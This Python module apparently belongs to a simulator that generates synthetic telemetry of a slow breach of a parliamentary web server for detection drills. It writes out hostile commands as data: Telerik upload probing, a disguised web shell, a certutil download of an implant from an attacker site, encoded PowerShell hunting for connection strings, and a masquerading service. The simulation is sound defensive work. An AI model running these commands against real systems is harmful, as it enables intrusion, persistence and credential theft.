"""A group's habits in, a slow breach out: a public server of the Parliamentary Service, then what lies behind it.

It takes most of the drill: days of looking, weeks of quiet taking. A step whose techniques the profile does not have is
left out.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Final, TypeAlias

from tocsin.rehearse.acts import changes, processes, web
from tocsin.rehearse.benign.servers import encoded
from tocsin.rehearse.dice import Dice
from tocsin.rehearse.machine import SYSTEM32, system
from tocsin.rehearse.rhythm import DAY_US, day_of, midnight_us
from tocsin.rehearse.scene import Scene
from tocsin.rehearse.stories import identity, mailbox, spread, taking
from tocsin.rehearse.stories.hold import MINUTE, Hold, agent, calling, commands, either, keeps, post
from tocsin.rehearse.stories.means import at_work, calls_home, means, typed, works
from tocsin.rehearse.stories.profile import Profile
from tocsin.rehearse.stories.story import Story
from tocsin.rehearse.world import Body

BODY: Final = "ps"
_Act: TypeAlias = Callable[[Scene, Story, Hold, int], None]
# What a job does that they leave behind, at any hour.
_UNATTENDED: Final[tuple[_Act, ...]] = (taking.reads_on,)
_SHELL_PATH: Final = "C:\\inetpub\\wwwroot\\submissions\\images\\resize.aspx"
_TARGET: Final = "/submissions/images/resize.aspx"
_IMPLANT: Final = "C:\\ProgramData\\Microsoft\\Diagnosis\\wlbsvc.exe"


def tell(scene: Scene, profile: Profile, seed: int) -> tuple[Story, Iterator[int]]:
    body = scene.world.body(BODY)
    story = Story(
        id="incident-1",
        campaign="campaign-1",
        kind="breach",
        title=f"Slow breach of the {body.title} through its submissions server",
        body=body,
        dice=Dice(seed, "breach"),
        profile=profile,
    )
    return story, _acts(scene, story, profile, body)


def _acts(scene: Scene, story: Story, profile: Profile, body: Body) -> Iterator[int]:
    dice = story.dice
    first = scene.world.calendar.working_day(0.09 + 0.07 * dice.random())
    span = scene.world.calendar.working_day(0.9) - first
    hold = Hold(means=means(scene.world, profile, dice), web=scene.machine(body.one("web")))
    story.addresses.update(hold.means.relays)
    now = 0
    for share, act in _plan(span // DAY_US):
        at = _in_hours(scene, profile, first + int(share * span) // DAY_US * DAY_US, dice)
        if act in _UNATTENDED:
            at = _later(scene, at, dice)
        if at < now + 10 * MINUTE:
            at = now + int(dice.between(10, 40) * MINUTE)
            if act not in _UNATTENDED and not works(profile, at):
                at = _in_hours(scene, profile, midnight_us(day_of(now)) + DAY_US, dice)
        now = at
        yield now
        act(scene, story, hold, now)


def _plan(days: int) -> list[tuple[float, _Act]]:
    """What they do, at which share of their time: the longer it is, the more often they look whether all is well."""
    plan: list[tuple[float, _Act]] = [
        *((0.0, _looks), (0.05, _enters), (0.051, _looks_around), (0.1, _settles), (0.18, spread.steals)),
        *((0.21, spread.roasts), (0.24, spread.roasts), (0.27, spread.roasts), (0.3, spread.moves)),
        *((0.42, spread.takes_directory), (0.88, spread.misleads), (0.95, spread.tidies)),
    ]
    for share in (0.44, 0.5, 0.56):
        plan += [(share, taking.gathers), (share + 0.015, taking.reads_on), (share + 0.03, taking.reads_on)]
        plan += [(share + 0.031, taking.packs), (share + 0.04, _uses_shell)]
    plan += [(0.66 + 0.06 * number, mailbox.reads) for number in range(3)]
    plan += [(0.46, identity.steals_key), (0.53, identity.forges), (0.63, identity.forges), (0.58, identity.lures)]
    plan += [(share, identity.reads_by_app) for share in (0.61, 0.7, 0.8)]
    plan += [(0.76, identity.delegates), (0.84, identity.diverts)]
    plan += [(0.6 + 0.03 * number, taking.sends) for number in range(9)]
    often = max(13, days // 4)
    plan += [(0.13 + 0.8 * number / often, _keeps_in_touch) for number in range(often)]
    return sorted(plan, key=lambda one: one[0])


def _in_hours(scene: Scene, profile: Profile, day_us: int, dice: Dice) -> int:
    """A moment in their working hours, that day or on the next one that will do."""
    at = at_work(profile, day_us, dice)
    while day_of(at).weekday() > 4 or scene.world.calendar.patches(day_of(at)):
        at += DAY_US  # nobody works at weekends, and in the night of the patches all servers are restarted
    return at


def _later(scene: Scene, ts_us: int, dice: Dice) -> int:
    """Hours later, by a job that they leave behind; not in a night in which machines are restarted."""
    later = ts_us + int(dice.between(3, 15) * 60 * MINUTE)
    return ts_us if scene.world.calendar.patches(day_of(later)) else later


def _looks(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """They try the server for what is known to be weak, by hand and slowly."""
    dice = story.dice
    if not (story.profile and story.profile.does("T1595.002")):
        return
    tried = (
        "/submissions/",
        "/submissions/web.config",
        "/submissions/trace.axd",
        "/submissions/Telerik.Web.UI.WebResource.axd?type=rau",
    )
    more = ("/submissions/upload.aspx", "/elmah.axd", "/submissions/App_Data/", "/submissions/view.aspx?id=1'")
    with story.step(scene, ts_us, "T1595.002", "They try the server for known weaknesses", host=hold.web.host):
        at = ts_us
        for target in (*tried, *more, *tried[:2]):
            status = 200 if target.endswith(("submissions/", "upload.aspx")) or "Telerik" in target else 404
            request = web.Request(
                target=target, status=status, received=dice.size(1900, 0.4), took_ms=dice.size(20, 0.6)
            )
            web.visit(scene, at, dice.one(hold.means.relays), hold.web.host, [request], agent=agent(dice))
            at += 20_000_000 + dice.below(240_000_000)


def _enters(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """A crafted upload runs a command in the worker process; a web shell follows."""
    pool, host = hold.pool, hold.web.host
    account = pool.session.account
    with story.step(
        scene, ts_us, "T1190", "A crafted upload runs a command in the web server", host=host, account=account
    ):
        post(
            scene,
            story,
            hold,
            ts_us,
            "/submissions/Telerik.Web.UI.WebResource.axd?type=rau",
            sent=184_300,
            received=312,
        )
        shell = processes.once(
            scene, hold.web, ts_us + 700_000, SYSTEM32 + "cmd.exe", '"cmd.exe" /c whoami > C:\\Windows\\Temp\\o', pool
        )
        typed(scene, hold.web, ts_us + 760_000, shell, "whoami", lasts_s=0.2)
    if not (story.profile and story.profile.does("T1505.003")):
        return
    at = ts_us + 4 * MINUTE
    with story.step(scene, at, "T1505.003", "A web shell is written among the pictures", host=host, account=account):
        post(scene, story, hold, at, "/submissions/Telerik.Web.UI.WebResource.axd?type=rau", sent=191_770, received=312)
        processes.writes(scene, pool, at + 600_000, _SHELL_PATH)
        post(scene, story, hold, at + 40_000_000, _TARGET, sent=310, received=96)
        commands(scene, hold, at + 40_400_000, "echo ok")


def _looks_around(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Through the web shell: who, what, where."""
    host, account = hold.web.host, hold.pool.session.account
    asks = (
        ("T1033", "whoami /all"),
        ("T1082", "systeminfo"),
        ("T1016", "ipconfig /all"),
        ("T1049", "netstat -ano"),
        ("T1057", "tasklist /v"),
        ("T1018", "net view /domain"),
        ("T1083", 'dir /s /a "C:\\inetpub\\*.config"'),
        ("T1087.002", "net user /domain"),
        ("T1069.002", 'net group "Domain Admins" /domain'),
        ("T1482", "nltest /domain_trusts"),
    )
    at = ts_us
    for technique, line in asks:
        if story.profile and story.profile.does(technique):
            what = f"From the web server's account: {line}"
            with story.step(scene, at, technique, what, host=host, account=account):
                post(
                    scene, story, hold, at, _TARGET, sent=story.dice.size(420, 0.2), received=story.dice.size(3000, 0.8)
                )
                commands(scene, hold, at + 400_000, line)
        at += 40_000_000 + story.dice.below(200_000_000)


def _settles(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """A program of their own comes over, and a service that starts it."""
    machine, pool, profile = hold.web, hold.pool, story.profile
    host, account = machine.host, pool.session.account
    assert profile
    site = hold.means.home[0]
    what = f"{profile.software.get('implant', 'A program of theirs')} is fetched under a name like Windows' own"
    with story.step(scene, ts_us, "T1105", what, host=host, account=account):
        line = f"certutil -urlcache -split -f https://{site.name}/kb5039217.cab {_IMPLANT}"
        post(scene, story, hold, ts_us, _TARGET, sent=690, received=410)
        tool = commands(scene, hold, ts_us + 400_000, line, lasts_s=6)
        calls_home(scene, story, tool, site, ts_us + 700_000, received=742_400)
        processes.writes(scene, tool, ts_us + 1_900_000, _IMPLANT)
    if profile.does("T1059.001"):
        _searches(scene, story, hold, ts_us + 3 * MINUTE)
    at = ts_us + 11 * MINUTE
    if profile.does("T1543.003"):
        what = "A service starts their program"
        with story.step(scene, at, "T1543.003 T1036.005", what, host=host, account=account):
            post(scene, story, hold, at, _TARGET, sent=520, received=130)
            _serves(scene, hold, at)
        keeps(scene, story, hold, "implant", "services")
    else:
        with story.step(scene, at, "T1059.003", "Their program is started by hand", host=host, account=account):
            hold.implant = processes.start(scene, machine, at, _IMPLANT, _IMPLANT, pool)
        # After a restart they come by the web shell and start it again.
        keeps(scene, story, hold, "implant", "w3wp")


def _searches(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """PowerShell looks through configurations."""
    search = "Get-ChildItem C:\\inetpub -Recurse -Include web.config | Select-String 'connectionString'"
    text = f"{search} | Out-File C:\\Windows\\Temp\\wmi.tmp"
    what = "PowerShell looks for passwords in configurations"
    host, account = hold.web.host, hold.pool.session.account
    with story.step(scene, ts_us, "T1059.001 T1552.001", what, host=host, account=account):
        post(scene, story, hold, ts_us, _TARGET, sent=1100, received=210)
        image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
        line = f"powershell -nop -ep bypass -enc {encoded(text)}"
        run = commands(scene, hold, ts_us + 400_000, line, image=image, lasts_s=7)
        processes.script(scene, run, ts_us + 900_000, text)
        processes.writes(scene, run, ts_us + 1_400_000, "C:\\Windows\\Temp\\wmi.tmp")


def _serves(scene: Scene, hold: Hold, ts_us: int) -> None:
    """A service for their program, made as SYSTEM: a weakness of the preview service lets the worker become it."""
    machine, session, name = hold.web, system(hold.web), "Windows Load Balancing Service"
    image, owner = SYSTEM32 + "cmd.exe", machine.core["services"]
    line = '"cmd.exe" /c C:\\Windows\\Temp\\p.exe'
    shell = processes.once(scene, machine, ts_us + 300_000, image, line, hold.pool, lasts_s=4)
    line = f'sc.exe create wlbsvc binPath= "{_IMPLANT}" DisplayName= "{name}" start= auto'
    image = SYSTEM32 + "sc.exe"
    processes.once(scene, machine, ts_us + 900_000, image, line, shell, session, integrity="System")
    changes.service(scene, machine, ts_us + 1_100_000, session, name, _IMPLANT, automatic=True)
    key = "HKLM\\System\\CurrentControlSet\\Services\\wlbsvc\\ImagePath"
    processes.sets(scene, owner, ts_us + 1_200_000, key, _IMPLANT)
    hold.implant = processes.start(scene, machine, ts_us + 2_000_000, _IMPLANT, _IMPLANT, owner)


def _uses_shell(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Now and then they still come by the web shell, to see that it is there."""
    if not (story.profile and story.profile.does("T1505.003")):
        return
    what = "The web shell is used again"
    with story.step(scene, ts_us, "T1505.003", what, host=hold.web.host, again="shell"):
        line = story.dice.one(("dir C:\\inetpub\\wwwroot\\submissions\\images", "whoami", "date /t"))
        post(scene, story, hold, ts_us, _TARGET, sent=story.dice.size(300, 0.3), received=story.dice.size(900, 0.6))
        commands(scene, hold, ts_us + 400_000, line)


def _keeps_in_touch(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Their program calls home now and then, for half a day."""
    with calling(scene, story, hold, ts_us):
        at = ts_us
        for _ in range(6 + story.dice.below(6)):
            run = either(hold, story.dice)
            if day_of(at) != day_of(ts_us):
                break
            calls_home(scene, story, run, story.dice.one(hold.means.home), at)
            at += int((600 + story.dice.wait(1500)) * 1e6)
